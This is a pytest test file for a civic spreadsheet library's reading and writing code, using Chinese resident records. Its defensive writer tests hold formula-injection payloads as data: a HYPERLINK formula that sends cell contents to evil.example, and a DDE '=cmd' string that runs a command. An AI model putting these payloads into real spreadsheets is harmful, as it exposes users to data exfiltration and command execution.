"""The shared spreadsheet reading and writing, on sheets that are not a 12345 export."""

import datetime as dt
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from civicgrid.core import spreadsheets
from civicgrid.core.spreadsheets import (
    CELL_MAX_CHARS,
    BadCell,
    ErrorReport,
    ImportFileError,
    RowProblem,
    map_columns,
    read_rows,
)
from civicgrid.testing.sheets import edit_sheet_xml, save_result, set_dimension

HEADERS = {"name": "姓名", "born": "出生日期", "phone": "联系电话"}


def test_a_residents_sheet_reads_through_the_same_code(tmp_path):
    path = tmp_path / "居民.xlsx"
    wb = Workbook()
    ws = wb.active
    ws.append([" 姓 名", "联系电话", "出生日期", "备注"])
    ws.append(["张三", 13800000000.0, dt.datetime(1950, 3, 1), ""])
    wb.save(path)
    rows = read_rows(path)
    cols = map_columns(next(rows), HEADERS, required=("name", "born"), optional=("phone",))
    assert cols.index == {"name": 0, "born": 2, "phone": 1}
    row = next(rows)
    assert spreadsheets.parse_code(row[cols.index["phone"]]) == "13800000000"
    born = spreadsheets.parse_time(row[cols.index["born"]], "born", "出生日期")
    assert born == dt.datetime(1950, 3, 1, tzinfo=spreadsheets.TZ)
    with pytest.raises(RowProblem, match="出生日期为空") as caught:
        spreadsheets.parse_time("", "born", "出生日期")
    assert caught.value.field == "born"


def test_missing_columns_and_bad_files_are_named(tmp_path):
    with pytest.raises(ImportFileError, match="缺少必需的列：出生日期"):
        map_columns(["姓名"], HEADERS, required=("name", "born"))
    with pytest.raises(ImportFileError, match="第 1 行不是表头"):
        map_columns(None, HEADERS, required=("name",))
    bad = tmp_path / "x.pdf"
    bad.write_bytes(b"%PDF")
    with pytest.raises(ImportFileError, match="不支持的文件类型"):
        read_rows(bad)
    gbk = tmp_path / "居民.csv"
    gbk.write_bytes("姓名,出生日期\n李四,1960年5月2日\n".encode("gb18030"))
    assert list(read_rows(gbk)) == [["姓名", "出生日期"], ["李四", "1960年5月2日"]]


def test_the_error_report_keeps_the_row_and_says_why(tmp_path):
    path = tmp_path / "out" / "失败行.xlsx"
    report = ErrorReport(path, ("姓名", "出生日期"))
    report.add(["王五\x07"], 3, "出生日期", "出生日期为空")
    report.save()
    rows = list(load_workbook(path).active.iter_rows(values_only=True))
    assert rows == [
        ("姓名", "出生日期", "行号", "错误列", "原因"),
        ("王五", None, 3, "出生日期", "出生日期为空"),
    ]


# ---------------------------------------------------------------------------- reading what others wrote


def test_a_csv_field_over_the_csv_modules_limit_is_its_rows_error(tmp_path):
    """csv refuses a field over 131072 characters with an error that ended the whole file;
    the reader reads it, and a cell longer than Excel's is that row's error naming the column."""
    path = tmp_path / "居民.csv"
    long = "长" * 200_000
    path.write_text(f"姓名,出生日期\n张三,1950-03-01\n{long},1960-05-02\n李四,1970-01-01\n", encoding="utf-8")
    rows = read_rows(path)
    cols = map_columns(next(rows), HEADERS, required=("name", "born"))
    first, second, third = list(rows)
    assert cols.value(first, "name") == "张三" and cols.value(third, "name") == "李四"
    assert cols.value(second, "born") == "1960-05-02"
    with pytest.raises(RowProblem, match=f"姓名超过 {CELL_MAX_CHARS} 个字符（200000 个）") as caught:
        cols.value(second, "name")
    assert caught.value.field == "name"


def test_an_xlsx_is_read_to_its_last_row_whatever_its_dimension_says(tmp_path):
    path = tmp_path / "居民.xlsx"
    wb = Workbook()
    wb.active.append(["姓名", "出生日期"])
    for n in range(5):
        wb.active.append([f"居民{n}", dt.datetime(1950, 1, 1 + n)])
    wb.save(path)
    edit_sheet_xml(path, lambda xml: set_dimension(xml, "A1:J2"))
    assert load_workbook(path, read_only=True).active.max_row == 2  # what openpyxl would stop at
    names = [row[0] for row in list(read_rows(path))[1:]]
    assert names == [f"居民{n}" for n in range(5)]
    edit_sheet_xml(path, lambda xml: set_dimension(xml, None))
    assert len(list(read_rows(path))) == 6
    assert spreadsheets.count_rows(path) == 5


def test_a_formula_gives_its_saved_result_or_is_refused_naming_it(tmp_path):
    path = tmp_path / "居民.xlsx"
    wb = Workbook()
    ws = wb.active
    ws.append(["姓名", "出生日期", "联系电话"])
    ws.append(['="张"&"三"', "=DATE(1950,3,1)", "=13800000000"])  # saved results below
    ws.append(['="李"&"四"', "1960-05-02", "=A2"])  # no saved result in column C
    ws.append(["王五", "1970-01-01", "=1/0"])  # an error value
    wb.save(path)

    def excel_saved(xml: str) -> str:
        xml = save_result(xml, "A2", "张三", text=True)
        xml = save_result(xml, "C2", "13800000000")
        xml = save_result(xml, "A3", "李四", text=True)
        return save_result(xml, "C4", "#DIV/0!").replace('<c r="C4">', '<c r="C4" t="e">')

    edit_sheet_xml(path, excel_saved)
    rows = read_rows(path)
    cols = map_columns(next(rows), HEADERS, required=("name", "born"), optional=("phone",))
    saved, unsaved, error = list(rows)
    assert cols.value(saved, "name") == "张三"
    assert spreadsheets.parse_code(cols.value(saved, "phone")) == "13800000000"
    assert cols.value(unsaved, "name") == "李四"
    with pytest.raises(RowProblem, match="联系电话是公式，文件中没有它的计算结果") as caught:
        cols.value(unsaved, "phone")
    assert caught.value.field == "phone"
    with pytest.raises(RowProblem, match="联系电话是错误值 #DIV/0!"):
        cols.value(error, "phone")
    with pytest.raises(RowProblem, match="出生日期是公式"):  # B2 was saved without a result
        cols.value(saved, "born")


def test_a_sheet_damaged_part_way_is_an_import_file_error_after_the_rows_before(tmp_path):
    path = tmp_path / "居民.xlsx"
    wb = Workbook()
    for n in range(6):
        wb.active.append([f"居民{n}", "1950-01-01"])
    wb.save(path)
    edit_sheet_xml(path, lambda xml: xml.replace('<row r="5">', '<row r="5"><c r="A5"><v>1</x>'))
    rows = read_rows(path)
    assert [next(rows)[0] for _ in range(4)] == ["居民0", "居民1", "居民2", "居民3"]
    with pytest.raises(ImportFileError, match="无法读取 Excel 文件"):
        next(rows)


# ---------------------------------------------------------------------------- writing text as text

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=",
]


def as_read(text):
    """What a reader sees of `text` in a cell: XML reads a line end (CR, CR LF) as LF, and
    cannot hold the other control characters (the writer drops them)."""
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text.replace("\r\n", "\n").replace("\r", "\n"))


def written(tmp_path, values):
    path = tmp_path / "out.xlsx"
    writer = spreadsheets.XlsxWriter()
    writer.sheet("表").append(values)
    writer.save(path)
    return list(load_workbook(path).active.iter_rows())[0]


@pytest.mark.parametrize("text", INJECTIONS)
def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path, text):
    (cell,) = written(tmp_path, [text])
    assert cell.data_type == "s" and cell.value == as_read(text)  # the visible text is kept
    assert cell.quotePrefix  # and stays text when someone edits the cell in Excel


def test_numbers_dates_and_plain_text_stay_as_they_are(tmp_path):
    when = dt.datetime(2026, 10, 9, 14, 30)
    cells = written(tmp_path, [12, -3.5, when, None, "楼上噪声 = 扰民", "王五\x07", "长" * 40_000])
    assert [c.data_type for c in cells[:3]] == ["n", "n", "d"]
    assert [c.value for c in cells[:6]] == [12, -3.5, when, None, "楼上噪声 = 扰民", "王五"]
    assert not any(c.quotePrefix for c in cells)
    assert len(cells[6].value) == CELL_MAX_CHARS  # Excel opens no longer cell


@settings(max_examples=60, derandomize=True, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",))), max_size=4))
def test_no_text_is_ever_written_as_a_formula(tmp_path_factory, texts):
    cells = written(tmp_path_factory.mktemp("x"), texts) if texts else []
    for cell, text in zip(cells, texts, strict=True):
        assert cell.data_type != "f"
        assert (cell.value or "") == as_read(text)


def test_the_error_report_writes_the_row_as_text_and_what_the_reader_refused(tmp_path):
    path = tmp_path / "失败行.xlsx"
    report = ErrorReport(path, ("姓名", "出生日期"))
    refused = BadCell("是公式，文件中没有它的计算结果", "=A2")
    report.add(["=cmd|' /C calc'!A0", refused], 3, "出生日期", "出生日期是公式")
    report.save()
    row = list(load_workbook(path).active.iter_rows())[1]
    assert [c.value for c in row] == ["=cmd|' /C calc'!A0", "=A2", 3, "出生日期", "出生日期是公式"]
    assert all(c.data_type != "f" for c in row)
